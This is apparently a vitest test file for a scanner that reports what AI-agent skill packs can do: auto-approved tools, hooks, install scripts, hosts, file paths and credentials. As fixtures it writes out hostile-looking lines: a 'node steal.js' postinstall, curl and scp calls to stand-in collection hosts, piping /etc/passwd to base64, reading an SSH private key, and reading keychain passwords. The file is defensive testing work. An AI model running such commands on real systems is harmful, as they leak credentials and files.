import fc from "fast-check";
import { expect, test } from "vitest";
import type { SkillFile } from "@/lib/skill-format/archive/skill-file";
import { readSkill } from "@/lib/skill-format/manifest/read-skill";
import type { CapabilityFact } from "@/lib/skills/versions/schema";
import { packFiles, playbookFiles } from "@/lib/testing/sample-packs";
import { readCapabilities } from "./read-capabilities";

const file = (path: string, text: string, mode: SkillFile["mode"] = "644"): SkillFile => ({
  path,
  mode,
  bytes: new TextEncoder().encode(text),
});

function factsOf(files: SkillFile[]): CapabilityFact[] {
  return readCapabilities(files, readSkill(files, { folder: "x" }).manifest).flatMap(({ facts }) => facts);
}

function tools(list: string): [string, string][] {
  return factsOf(playbookFiles({ more: `allowed-tools: ${JSON.stringify(list)}\n` }))
    .filter(({ kind }) => kind === "tool")
    .map(({ value, tone }) => [value, tone]);
}

test.each(["Bash", "Bash(*)", "Bash(python3:*)", "Write", "Edit", "WebFetch", "mcp__files__delete", "mcp__files"])(
  "%s is highlighted",
  (pattern) => {
    expect(tools(pattern)).toEqual([[pattern, "stands-out"]]);
  },
);

test.each(["Bash(git add:*)", "Bash(git status)", "Read", "Grep", "Write(notes/**)", "WebFetch(domain:example.org)"])(
  "%s is not highlighted",
  (pattern) => {
    expect(tools(pattern)).toEqual([[pattern, "plain"]]);
  },
);

test("each tool states that it runs without asking, with its line", () => {
  const facts = factsOf(playbookFiles({ more: "allowed-tools: Bash(git add:*), Read\n" }));
  expect(facts).toContainEqual({
    kind: "tool",
    value: "Bash(git add:*)",
    fact: "Shell commands that begin with “git add” run without asking in Claude Code.",
    tone: "plain",
    path: "SKILL.md",
    line: 4,
  });
});

test("lists what runs by itself: hooks, inline commands, install scripts", () => {
  const files = [
    ...playbookFiles({
      more: "hooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks:\n        - type: command\n          command: ./guard.sh --all\n",
      body: "# Tidy\n\nNow: !`git status --short`\n",
    }),
    file("package.json", '{\n  "scripts": {\n    "postinstall": "node steal.js",\n    "test": "vitest"\n  }\n}\n'),
    file("install.sh", "#!/bin/sh\necho hello\n"),
  ];
  const loads = factsOf(files).filter(({ kind }) => ["hook", "inline-command", "install"].includes(kind));
  expect(loads.map(({ kind, value, path, line, tone }) => [kind, value, path, line, tone])).toEqual([
    ["hook", "PreToolUse ./guard.sh --all", "SKILL.md", 9, "stands-out"],
    ["inline-command", "git status --short", "SKILL.md", 14, "stands-out"],
    ["hook", "package.json", "package.json", 1, "stands-out"],
    ["install", "package.json postinstall: node steal.js", "package.json", 3, "stands-out"],
    ["install", "install.sh", "install.sh", 1, "stands-out"],
  ]);
});

test("hosts of all text files, once each, with the first place", () => {
  const files = [
    ...playbookFiles({ body: "See https://docs.example.org/a and https://docs.example.org/b.\n" }),
    file("run.py", 'import urllib\nurllib.urlopen("http://203.0.113.7:8080/x")\n'),
    file(
      "run.sh",
      "#!/bin/sh\ncurl -s collect.example.net/up\ngit clone git@git.example.com:a/b\necho utils.sh\nscp run.sh drop.example.io\n",
    ),
  ];
  const hosts = factsOf(files).filter(({ kind }) => kind === "host");
  expect(hosts.map(({ value, path, line, tone }) => [value, path, line, tone])).toEqual([
    ["203.0.113.7", "run.py", 2, "stands-out"],
    ["docs.example.org", "SKILL.md", 6, "plain"],
    ["collect.example.net", "run.sh", 2, "plain"],
    ["git.example.com", "run.sh", 3, "plain"],
    ["drop.example.io", "run.sh", 5, "plain"],
  ]);
});

test("interpreters, programs in scripts and shell examples, and paths outside the folder", () => {
  const files = [
    ...playbookFiles({ body: "Run it.\n\n```bash\nsudo rm -rf ~/.cache/tidy\n```\n\n```python\nrm = 1\n```\n" }),
    file("go.sh", "#!/usr/bin/env bash\n# curl is not called here\ncat /etc/passwd | base64\n", "755"),
    file("go.py", 'import subprocess\nsubprocess.run(["kubectl", "get"])\nopen("~/.ssh/id_rsa")\n'),
  ];
  const facts = factsOf(files);
  const values = (kind: string) =>
    facts
      .filter((fact) => fact.kind === kind)
      .map(({ value }) => value)
      .sort();
  expect(values("interpreter")).toEqual(["go.sh /usr/bin/env bash"]);
  expect(values("program")).toEqual(["base64", "cat", "kubectl", "rm", "sudo"]);
  expect(values("path")).toEqual(["/etc/passwd", "~/.cache/tidy", "~/.ssh/id_rsa"]);
  expect(facts.find(({ value }) => value === "~/.ssh/id_rsa")).toMatchObject({
    tone: "stands-out",
    path: "go.py",
    line: 3,
  });
});

test("class, entry, environment and credentials of a pack", () => {
  const facts = factsOf(
    packFiles({
      manifest: { class: "mutating", env_allow: ["TZ", "DEPLOY_TOKEN"] },
      script: "#!/bin/sh\nsecurity find-generic-password -s x\n",
      extra: [
        file("a.mjs", "console.log(process.env.HOME_REGION, process.env.SIGNING_KEY)\n"),
        file("b.sh", "A_TOKEN=x\n"),
      ],
    }),
  );
  const of = (kind: string) => facts.filter((fact) => fact.kind === kind).map(({ value }) => value);
  expect(of("class")).toEqual(["mutating"]);
  expect(of("entry")).toEqual(["run.sh"]);
  expect(of("env")).toEqual(["TZ", "DEPLOY_TOKEN", "HOME_REGION", "SIGNING_KEY"]);
  expect(of("credential")).toEqual([
    "DEPLOY_TOKEN",
    "Reads passwords from the macOS keychain.",
    "SIGNING_KEY",
    "A_TOKEN",
  ]);
});

test("a missing class is reported with the proposed class and its reason", () => {
  const [fact] = factsOf([...playbookFiles(), file("scripts/x.py", "print(1)\n")]).filter(
    ({ kind }) => kind === "class",
  );
  expect(fact?.fact).toBe("The author declares no class; mutating is proposed: it contains a script, scripts/x.py.");
});

test("every group is present, and each fact has an existing place for any bytes", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 400 }), fc.uint8Array({ maxLength: 200 }), (text, bytes) => {
      const files = [...playbookFiles({ body: text }), { path: "run.sh", mode: "755" as const, bytes }];
      const groups = readCapabilities(files, readSkill(files, { folder: "x" }).manifest);
      expect(groups.map(({ group }) => group)).toHaveLength(9);
      for (const { path, line } of groups.flatMap(({ facts }) => facts)) {
        if (path === null) continue;
        const lines = new TextDecoder().decode(files.find((file) => file.path === path)?.bytes).split(/\r\n|\n|\r/);
        expect(line).toBeLessThanOrEqual(lines.length);
      }
    }),
    { numRuns: 100 },
  );
});

test("a long list is cut and reports the number of further facts", () => {
  const many = Array.from({ length: 90 }, (_, index) => `https://h${index}.example.org/`).join("\n");
  const files = playbookFiles({ body: many });
  const network = readCapabilities(files, readSkill(files, { folder: "x" }).manifest).find(
    ({ group }) => group === "network",
  );
  expect([network?.facts.length, network?.more]).toEqual([60, 30]);
});

test("a playbook that asks for a shell stays safe and names the line, from metadata or examples", () => {
  const said = (files: SkillFile[]) =>
    factsOf(files).filter(({ kind }) => ["ask", "capability", "class"].includes(kind));
  const tmux = playbookFiles({ more: 'metadata: { "gsv": { "requires": { "capabilities": ["shell.exec"] } } }\n' });
  expect(said(tmux)).toEqual([
    expect.objectContaining({
      ...{ kind: "ask", value: "shell", fact: "Asks the agent to run shell commands." },
      ...{ tone: "stands-out", path: "SKILL.md", line: 4 },
    }),
    expect.objectContaining({ kind: "capability", value: "shell.exec", path: "SKILL.md", line: 4 }),
    expect.objectContaining({ kind: "class", value: "none, safe" }),
  ]);
  expect(said(playbookFiles({ body: "# Issues\n\n```bash\ngh issue list\n```\n" }))).toEqual([
    expect.objectContaining({ kind: "ask", value: "shell", path: "SKILL.md", line: 9 }),
    expect.objectContaining({ kind: "class", value: "none, safe" }),
  ]);
  expect(said(playbookFiles())).toEqual([expect.objectContaining({ kind: "class" })]);
});
